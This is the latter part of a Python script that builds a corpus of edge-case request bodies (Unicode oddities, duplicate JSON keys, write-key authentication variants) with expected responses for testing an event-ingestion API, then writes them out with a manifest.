        "user_id_zero_width",
        c,
        "a zero-width space inside the userId",
        mutated(lambda e: e.update(userId="cus\u200b" + e["messageId"])),
        200,
        None,
        "valid",
    )
    add(
        "user_id_nul",
        c,
        "a NUL character inside the userId",
        mutated(lambda e: e.update(userId="cus\u0000" + e["messageId"])),
        200,
        None,
        "valid",
    )
    add(
        "user_id_200_emoji",
        c,
        "a userId of 200 emoji (200 characters, 800 bytes)",
        lambda n: dumps(event(n, userId=f"{n:03d}" + "\U0001f600" * 197)),
        200,
        None,
        "valid",
    )
    add(
        "user_id_201_emoji",
        c,
        "a userId of 201 emoji (over 200 characters)",
        lambda n: dumps(event(n, userId=f"{n:03d}" + "\U0001f600" * 198)),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    add(
        "escaped_surrogate_pair",
        c,
        "an emoji written as an escaped surrogate pair",
        lambda n: text_with(n, '"note":"\\ud83d\\ude00"'),
        200,
        None,
        "valid",
    )
    add(
        "escaped_nul",
        c,
        "an escaped \\u0000 in a property",
        lambda n: text_with(n, '"note":"a\\u0000b"'),
        200,
        None,
        "valid",
    )
    add(
        "unicode_keys",
        c,
        "property keys in several scripts",
        mutated(
            _set("properties", {"product_id": "P00001", "\u540d\u524d": 1, "\U0001f511": 2, "": 3})
        ),
        200,
        None,
        "valid",
    )
    add(
        "long_key",
        c,
        "a 5,000-character property key",
        mutated(_set("properties", {"product_id": "P00001", "k" * 5000: 1})),
        200,
        None,
        "valid",
    )


def duplicates() -> None:
    c = "duplicate_keys"
    add(
        "duplicate_message_id",
        c,
        "two messageId keys: the last one wins",
        lambda n: text_with(n, f'"messageId":"corpus-{n:03d}-last"'),
        200,
        None,
        "valid",
    )
    add(
        "duplicate_type_last_screen",
        c,
        "type track then screen: the last wins (screen); /v1/track sets it back",
        lambda n: text_with(n, '"type":"screen"'),
        200,
        None,
        "unknown_event",
    )
    add(
        "duplicate_anonymous_id_empty",
        c,
        "a second, empty anonymousId wins",
        lambda n: text_with(n, '"anonymousId":""'),
        400,
        "missing_identity",
        "missing_identity",
    )
    add(
        "duplicate_timestamp_1970",
        c,
        "a second timestamp in 1970 wins",
        lambda n: text_with(n, '"timestamp":"1970-01-01T00:00:00Z"'),
        200,
        None,
        "timestamp_out_of_range",
        collected={"timestamp_out_of_range": 1},
    )
    add(
        "duplicate_properties",
        c,
        "a second properties object without product_id",
        lambda n: text_with(n, '"properties":{"x":1}'),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )


def auth() -> None:
    c = "auth"
    add(
        "no_write_key",
        c,
        "a valid event without any write key",
        lambda n: dumps(event(n)),
        401,
        "missing_write_key",
        "valid",
        auth="none",
    )
    add(
        "wrong_write_key",
        c,
        "a valid event with an unknown write key",
        lambda n: dumps(event(n)),
        401,
        "invalid_write_key",
        "valid",
        auth="wrong",
    )
    add(
        "malformed_basic_auth",
        c,
        "an Authorization header that is not base64",
        lambda n: dumps(event(n)),
        401,
        "missing_write_key",
        "valid",
        auth="malformed",
    )
    add(
        "write_key_in_body",
        c,
        "the write key in the body instead of the header",
        lambda n: dumps(event(n, writeKey="wk_store_test")),
        200,
        None,
        "valid",
        auth="none",
    )
    add(
        "wrong_write_key_in_body",
        c,
        "an unknown write key in the body",
        lambda n: dumps(event(n, writeKey="wk_nope")),
        401,
        "invalid_write_key",
        "valid",
        auth="none",
    )
    add(
        "write_key_not_string",
        c,
        "writeKey in the body is a number",
        lambda n: dumps(event(n, writeKey=12345)),
        401,
        "missing_write_key",
        "valid",
        auth="none",
    )


def main() -> None:
    for group in (
        malformed_json,
        invalid_utf8,
        oversize,
        nesting,
        wrong_types,
        commerce,
        unknown_events,
        identities,
        timestamps,
        hostile_strings,
        unicode_cases,
        duplicates,
        auth,
    ):
        group()
    prefixes = [case.body[:65536] for case in CASES]
    assert len(set(prefixes)) == len(prefixes), "cases must differ in their first 64 KiB"
    assert all(len(case.body) < 1_000_000 for case in CASES), "the raw topic takes < 1 MB"
    if CASES_DIR.exists():
        shutil.rmtree(CASES_DIR)
    CASES_DIR.mkdir()
    manifest = []
    for case in CASES:
        path = CASES_DIR / f"{case.name}.bin"
        path.write_bytes(case.body)
        entry = copy.deepcopy(case.__dict__)
        del entry["body"]
        entry["file"] = f"cases/{path.name}"
        manifest.append(entry)
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=True) + "\n")
    print(f"{len(CASES)} cases written to {CASES_DIR}")


if __name__ == "__main__":
    main()
